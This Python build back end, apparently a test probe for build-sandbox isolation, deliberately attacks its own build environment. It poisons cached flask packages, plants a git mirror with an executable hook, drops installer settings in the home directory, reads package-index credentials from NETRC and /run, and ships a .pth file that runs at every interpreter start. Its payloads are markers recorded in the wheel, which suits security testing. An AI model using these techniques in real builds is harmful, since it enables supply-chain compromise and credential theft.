"""A build back end that attacks what outlives its build, and then builds. What it got is in the wheel, in attack.json."""

import array
import json
import os
import socket
import zipfile
from pathlib import Path

HOME = Path(os.environ["HOME"])
CACHE = Path("/var/cache/hostile-build")
PLANTED = json.loads(Path("attack.json").read_text())
HOOK = "#!/bin/sh\nls \"$HOME\" >\"$GIT_DIR/hook-ran\"\n"
# Runs whenever the venv's interpreter starts, also when an installer asks it for its version.
PTH = ("import os; [open(d + '/pth-ran-as-root', 'w').close() for d in ('/etc', '/run', '/root', '/tmp') if os.getuid() == 0 and os.access(d, os.W_OK)]\n"
       f"import os; d = '{CACHE}'; [open(f + '/pth-ran', 'w').close() for f, _, _ in os.walk(d) if os.access(f, os.W_OK)]\n")


def folders() -> list[Path]:
    """Directories that another build might use again."""
    return [HOME, CACHE, *(Path(os.environ[name]) for name in ("UV_CACHE_DIR", "XDG_CACHE_HOME") if name in os.environ)]


def poison_packages() -> int:
    """Append a line to a package in every cache."""
    count = 0
    for folder in folders():
        for path in folder.glob("**/flask/__init__.py"):
            with path.open("a") as file:
                file.write("\nPOISONED = True\n")
            count += 1
    return count


def plant_mirror() -> int:
    """Make the mirror of a repository, with a hook, where git will look for it."""
    count = 0
    for parent in (CACHE / "git", CACHE / "mirrors"):
        mirror = parent / PLANTED["mirror"]
        for name in ("hooks", "objects", "refs/heads"):
            (mirror / name).mkdir(parents=True, exist_ok=True)
        (mirror / "HEAD").write_text("ref: refs/heads/main\n")
        (mirror / "config").write_text("[core]\n\trepositoryformatversion = 0\n\tbare = true\n")
        (mirror / "hooks/reference-transaction").write_text(HOOK)
        (mirror / "hooks/reference-transaction").chmod(0o755)
        count += 1
    return count


def leave_settings() -> str:
    """Settings that an installer reads from the home directory at the next build."""
    path = HOME / ".config/uv/uv.toml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text('cache-dir = "/tmp/left-behind"\n')
    return str(path)


def read_credentials() -> str:
    """The credentials of the package index."""
    found = [Path(os.environ["NETRC"]).read_text()] if "NETRC" in os.environ else []
    found += [path.read_text() for path in Path("/run").glob("flask-build-*/*") if path.is_file()]
    return "\n".join(found)


def pass_file_out() -> str:
    """A descriptor of the release, sent to the running application, which keeps it until the release is sealed."""
    file = os.open("hostile.py", os.O_RDWR)
    with socket.socket(socket.AF_UNIX) as client:
        client.connect("\0attack")
        client.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [file]))])
    return "sent"


def change_a_package() -> str:
    """Another package of the release, and what that package lists about itself."""
    changed = ""
    for path in Path.cwd().parent.glob("venv/lib/python3*/site-packages/flask/__init__.py"):
        with path.open("a") as file:
            file.write("\nCHANGED = True\n")
        changed = str(path)
    return changed


def tried(call: object) -> object:
    """What an attack got; nothing where it was refused."""
    try:
        return call()
    except OSError:
        return 0


def build_wheel(wheel_directory: str, config_settings: object = None, metadata_directory: object = None) -> str:
    """Attack, then build."""
    got = {name: tried(globals()[name]) for name in PLANTED["attacks"]}
    name, info = "hostile_build-1-py3-none-any.whl", "hostile_build-1.dist-info"
    with zipfile.ZipFile(Path(wheel_directory, name), "w") as wheel:
        wheel.writestr("attack.json", json.dumps(got))
        wheel.writestr("attack.pth", PTH)
        wheel.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: hostile-build\nVersion: 1\n")
        wheel.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: hostile\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(f"{info}/RECORD", f"attack.json,,\nattack.pth,,\n{info}/METADATA,,\n{info}/WHEEL,,\n{info}/RECORD,,\n")
    return name


# `-e`, which installers build also when they are told to build nothing.
build_editable = build_wheel
